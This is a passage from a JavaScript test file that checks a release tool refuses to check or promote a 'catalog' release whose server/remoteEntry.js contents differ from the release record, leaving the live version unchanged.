    for (const command of ['check', 'promote']) {
      const refused = run(releases, command, 'catalog', '1.0.0-bbbbbbbbbbbb', '--host', host);
      assert.equal(refused.status, 1, command);
      assert.match(refused.stderr, /its files do not match its release record; the live version is unchanged:\n {2}server\/remoteEntry\.js: its contents are not the ones released/, command);
    }
    assert.equal(store.readPointer(releases, 'catalog').live, '1.0.0-aaaaaaaaaaaa');
  });
});
